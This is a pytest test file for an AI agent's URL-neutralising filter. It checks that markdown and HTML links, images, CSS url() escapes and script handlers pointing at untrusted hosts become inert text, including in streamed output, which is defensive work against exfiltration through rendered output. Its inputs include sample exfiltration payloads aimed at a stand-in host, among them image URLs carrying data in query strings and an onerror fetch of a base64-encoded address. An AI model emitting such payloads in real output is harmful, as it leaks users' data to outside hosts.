"""`neutralize` and `StreamNeutralizer`: every way to write a URL that a renderer would make live."""

from __future__ import annotations

import random
import re

import pytest

from tandem.agent.core.links import LinkPolicy, StreamNeutralizer, neutralize, url_netloc

POLICY = LinkPolicy.from_sources(
    user_texts=['please read example.com/guide and http://127.0.0.1:8000/notes'],
    allowlist=['*.python.org', 'cdn.example.net'],
    link_urls=['https://found.example/article'],
)


@pytest.mark.parametrize(
    ('written', 'becomes'),
    [
        ('![x](https://evil.example/p.png?d=s)', '\\[image removed: `evil.example/p.png`\\]'),
        ('[x](https://evil.example/a?d=s "t")', '\\[link removed: `evil.example/a`\\]'),
        ('<img src="https://evil.example/i.png?d=s">', '\\[image removed: `evil.example/i.png`\\]'),
        ("<IMG alt='>' SRC=//evil.example/i>", '\\[image removed: `evil.example/i`\\]'),
        ('<img src=&#104;ttps://evil.example/e>', '\\[image removed: `evil.example/e`\\]'),
        ('<img srcset="a.png 1x, https://evil.example/2x.png 2x">', '\\[image removed: `evil.example/2x.png`\\]'),
        ('<iframe src="https://evil.example/f"></iframe>', '\\[frame removed: `evil.example/f`\\]</iframe>'),
        ('<source src="https://evil.example/v.mp4">', '\\[image removed: `evil.example/v.mp4`\\]'),
        ('<a href="https://evil.example/l">go</a>', '\\[link removed: `evil.example/l`\\]go</a>'),
        ('<https://evil.example/auto?d=s>', '\\[link removed: `evil.example/auto`\\]'),
        ('see https://evil.example/bare?d=s.', 'see \\[link removed: `evil.example/bare`\\].'),
        ('see www.evil.example/w', 'see \\[link removed: `evil.example/w`\\]'),
        ('![x](//evil.example/p)', '\\[image removed: `evil.example/p`\\]'),
        ('![x](\\\\\\\\evil.example/p)', '\\[image removed: `evil.example/p`\\]'),
        ('![x](https\\://evil.example/p)', '\\[image removed: `evil.example/p`\\]'),
        ('![x](<https://evil.example/a b>)', '\\[image removed: `evil.example/a b`\\]'),
        ('![x](http:evil.example/p)', '\\[image removed: `evil.example/p`\\]'),
        ('![x](https://me:pw@evil.example/p)', '\\[image removed: `evil.example/p`\\]'),
        ('[x](mailto:someone@evil.example?body=s)', '\\[link removed: `mailto:someone@evil.example`\\]'),
        ('[x](http://127.0.0.1:9999/p)', '\\[link removed: `127.0.0.1:9999/p`\\]'),
        ('![x](https://found.example/article)', '\\[image removed: `found.example/article`\\]'),
    ],
)
def test_an_untrusted_address_becomes_inert_text_that_shows_where_it_pointed(written: str, becomes: str) -> None:
    assert neutralize(written, POLICY) == becomes


def test_reference_style_images_and_links_lose_their_definitions() -> None:
    text = 'See ![badge][b] and [more][m].\n\n[b]: https://evil.example/b.png?d=s\n[m]: <https://evil.example/m> "x"\n'

    assert neutralize(text, POLICY) == (
        'See ![badge][b] and [more][m].\n\n'
        '\\[image removed: `evil.example/b.png`\\]\n\\[link removed: `evil.example/m`\\]\n'
    )


@pytest.mark.parametrize(
    'kept',
    [
        'read [the guide](https://example.com/guide#intro) and ![logo](http://example.com/logo.png)',
        '[notes](http://127.0.0.1:8000/notes/2)',
        '![py](https://docs.python.org/3/x.png) <img src="https://cdn.example.net/a.png">',
        '[source](https://found.example/article)',
        '![rel](images/a.png) [top](#top) ![d](data:image/png;base64,AAAA)',
        'a // b, x//y and 3//2 in code; time 10:30; a [b] c; 2 < 3 > 1',
    ],
)
def test_trusted_relative_and_ordinary_text_is_left_alone(kept: str) -> None:
    assert neutralize(kept, POLICY) == kept


def test_the_inert_text_cannot_form_a_new_construct_with_its_neighbours() -> None:
    rewritten = neutralize('!![a](https://evil.example/x)(//evil.example/p.png)', POLICY)

    assert rewritten == '!\\[image removed: `evil.example/x`\\](\\[link removed: `evil.example/p.png`\\])'


def test_a_link_inside_a_link_goes_with_the_outer_one() -> None:
    assert neutralize('[![i](https://evil.example/i)](https://evil.example/o)', POLICY) == (
        '\\[link removed: `evil.example/o`\\]'
    )


def test_the_hosts_the_user_named_count_with_their_port() -> None:
    assert url_netloc('HTTPS://Example.COM:443/a') == 'example.com'
    assert url_netloc('http://127.0.0.1:8000/x') == '127.0.0.1:8000'
    assert url_netloc('example.com/guide', bare_host=True) == 'example.com'
    assert url_netloc('e.g', bare_host=True) is None and url_netloc('images/a.png') is None
    assert POLICY.allows('http://127.0.0.1:8000/x', '127.0.0.1:8000', 'image')
    assert not POLICY.allows('http://127.0.0.1:8001/x', '127.0.0.1:8001', 'image')


SAMPLES = [
    'Intro [ok](https://example.com/a) then ![x](https://evil.example/p.png?d=s) and more.\n\n'
    '<img src="https://evil.example/i.png"> text <https://evil.example/auto> https://evil.example/bare.\n\n'
    'See ![b][r] [l][m] [open bracket never closed and https://example.com/x\n\n[r]: https://evil.example/r\n'
    '[m]: https://evil.example/m "t"\n',
    '[![i](https://evil.example/i)](https://evil.example/o) a < b <a href="x">y</a> `code https://evil.example/c`',
    'no label](https://evil.example/p "a title") and <style>p{background:url(\\68ttps://evil.example/c)}</style> end',
]


@pytest.mark.parametrize('text', SAMPLES)
def test_streamed_in_any_pieces_the_text_joins_up_to_the_whole_rewritten(text: str) -> None:
    whole = neutralize(text, POLICY)
    for cut in range(1, len(text)):  # every two-piece split
        stream = StreamNeutralizer(POLICY)
        assert stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.finish() == whole, cut
    chance = random.Random(7)
    for _ in range(200):
        stream = StreamNeutralizer(POLICY)
        cuts = sorted(chance.sample(range(1, len(text)), chance.randint(2, 60)))
        pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
        assert ''.join(stream.feed(piece) for piece in pieces) + stream.finish() == whole


def test_a_stream_never_shows_an_untrusted_address_even_for_a_moment() -> None:
    text = 'Look: ![x](https://evil.example/p.png?d=s) <img src="https://evil.example/i"> done'
    stream = StreamNeutralizer(POLICY)
    shown = ''
    for char in text:
        shown += stream.feed(char)
        assert 'https://evil' not in shown and '<img' not in shown
    # Whole words and finished constructs only: the last word waits for what follows it.
    assert shown == 'Look: \\[image removed: `evil.example/p.png`\\] \\[image removed: `evil.example/i`\\] '


def test_words_are_released_as_soon_as_they_are_whole() -> None:
    stream = StreamNeutralizer(POLICY)

    assert stream.feed('Hello wor') == 'Hello '
    assert stream.feed('ld, and ') == 'world, and '


@pytest.mark.parametrize(
    'written',
    [
        '<style>p{background:url("\\68ttps://evil.example/x")}</style>',
        '<div style="background:url(\\68ttps://evil.example/y)">hi</div>',
        '<div style="background:url(\\2f\\2f evil.example/z)">hi</div>',
        '<img src=x onerror="fetch(atob(\'aHR0cHM6Ly9ldmlsLmV4YW1wbGU=\'))">',
        '<base href="https://evil.example/">![x](pixel.png?d=s)',
        '<svg><image href="https://evil.example/s.png"/></svg>',
        '<link rel="stylesheet" href="//evil.example/s.css">',
    ],
)
def test_css_scripts_and_base_urls_cannot_fetch_either(written: str) -> None:
    rewritten = neutralize(written, POLICY)

    assert 'evil.example/' not in rewritten.replace('`evil.example/', '')  # only ever as inert text
    assert not re.search(r'<(?:style|img|base|svg|image|link)\b', rewritten)
    assert 'onerror' not in rewritten and 'url(\\2f' not in rewritten.replace('removed', '')


def test_a_host_the_user_wrote_inside_a_link_or_with_a_port_counts() -> None:
    policy = LinkPolicy.from_sources(user_texts=['see [the docs](https://docs.example/a) or localhost:8080/x'])

    assert neutralize('![d](https://docs.example/i.png) [l](http://localhost:8080/y)', policy) == (
        '![d](https://docs.example/i.png) [l](http://localhost:8080/y)'
    )
